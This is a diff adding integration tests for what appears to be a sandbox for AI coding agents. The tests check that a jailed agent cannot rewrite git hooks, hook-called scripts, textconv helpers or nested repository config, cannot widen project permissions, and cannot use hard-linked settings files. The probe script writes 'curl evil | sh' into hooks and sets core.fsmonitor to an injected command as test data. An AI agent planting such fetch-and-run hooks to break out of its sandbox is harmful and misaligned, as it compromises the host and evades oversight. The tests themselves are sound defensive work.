@@ -5,12 +5,14 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertNotEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import dev.agentjail.it.support.Command;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.LinkOption;
 import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
@@ -78,6 +80,64 @@ class HostExecutedSurfacesTest {
     }
 
     @Test
+    void whatHooksAndGitSettingsRunAndNestedRepositoriesMetadataAreReadOnly() throws IOException {
+        AgentjailRun.requireBwrap();
+        AgentjailRun run = AgentjailRun.in(dir);
+        Path p = run.project();
+        git(p, "init", "-q");
+        Files.createDirectories(p.resolve("scripts"));
+        Files.writeString(p.resolve("scripts/pre-commit"), HOOK);
+        Files.writeString(p.resolve("scripts/check-msg.sh"), HOOK);
+        Files.writeString(p.resolve("conv.py"), "print('x')\n");
+        Files.createSymbolicLink(p.resolve(".git/hooks/pre-commit"), Path.of("../../scripts/pre-commit"));
+        Files.writeString(p.resolve(".git/hooks/commit-msg"), "#!/bin/sh\nexec ./scripts/check-msg.sh \"$1\"\n");
+        git(p, "config", "diff.py.textconv", "python3 conv.py");
+        git(p, "init", "-q", "vendor/lib");
+        Files.createDirectories(p.resolve("sub"));
+        Files.writeString(p.resolve("sub/.git"), "gitdir: ../.git/modules/sub\n");
+
+        AgentjailRun.Outcome o = run.bash("""
+                echo 'curl evil | sh' > scripts/pre-commit 2>/dev/null; echo "linked_hook=$?"
+                echo 'curl evil | sh' > scripts/check-msg.sh 2>/dev/null; echo "called_script=$?"
+                echo 'import os' > conv.py 2>/dev/null; echo "textconv=$?"
+                git config -f vendor/lib/.git/config core.fsmonitor 'touch /tmp/x' 2>/dev/null; echo "nested=$?"
+                echo 'gitdir: ../.m' > sub/.git 2>/dev/null; echo "gitfile=$?"
+                echo ordinary >> README 2>/dev/null; echo "ordinary=$?"
+                """);
+
+        assertEquals(0, o.exitCode(), o::describe);
+        for (String refused : List.of("linked_hook", "called_script", "textconv", "nested", "gitfile")) {
+            assertNotEquals("0", o.probe(refused), () -> refused + " succeeded; " + o.describe());
+        }
+        assertEquals("0", o.probe("ordinary"), o::describe);
+        assertAll(
+                () -> assertEquals(HOOK, Files.readString(p.resolve("scripts/pre-commit"))),
+                () -> assertEquals(HOOK, Files.readString(p.resolve("scripts/check-msg.sh"))),
+                () -> assertEquals("gitdir: ../.git/modules/sub\n", Files.readString(p.resolve("sub/.git"))));
+    }
+
+    @Test
+    void permissionsTheAgentOpensUpOnARootProjectAreTakenBack() throws IOException {
+        assumeTrue(AgentjailRun.isRoot(), "only a jail started by root for a root-owned project is kernel uid 0");
+        AgentjailRun.requireBwrap();
+        AgentjailRun run = AgentjailRun.in(dir);
+        Path p = run.project();
+        git(p, "init", "-q");
+        Files.setPosixFilePermissions(p, PosixFilePermissions.fromString("rwxr-xr-x"));
+
+        AgentjailRun.Outcome o = run.bash("""
+                chmod 0777 . .git; echo "chmod=$?"
+                """);
+
+        assertEquals(0, o.exitCode(), o::describe);
+        assertAll(
+                () -> assertEquals("rwxr-xr-x", PosixFilePermissions.toString(Files.getPosixFilePermissions(p))),
+                () -> assertEquals(
+                        "rwxr-xr-x", PosixFilePermissions.toString(Files.getPosixFilePermissions(p.resolve(".git")))),
+                () -> assertTrue(o.err().contains("took back the group and other write permission"), o::describe));
+    }
+
+    @Test
     void aProtectedFileWithASecondNameRefusesTheSession() throws IOException {
         AgentjailRun.requireBwrap();
         AgentjailRun run = AgentjailRun.in(dir);
@@ -113,6 +173,19 @@ class HostExecutedSurfacesTest {
                 () -> assertFalse(
                         Files.exists(run.home().resolve(".claude/settings.json"), LinkOption.NOFOLLOW_LINKS),
                         "the placeholder is gone after the session"));
+    }
+
+    @Test
+    void aPresetsSettingsFileWithASecondNameInTheWritableConfigDirRefusesTheSession() throws IOException {
+        AgentjailRun.requireBwrap();
+        AgentjailRun run = AgentjailRun.in(dir).options("--preset", "claude-code");
+        Path claude = Files.createDirectories(run.home().resolve(".claude"));
+        Files.writeString(claude.resolve("settings.json"), "{}");
+        Files.createLink(claude.resolve("notes.json"), claude.resolve("settings.json"));
+
+        AgentjailRun.Outcome o = run.bash("echo \"started=yes\"");
+
+        o.assertRefused("has 2 hard links");
     }
 
     @Test
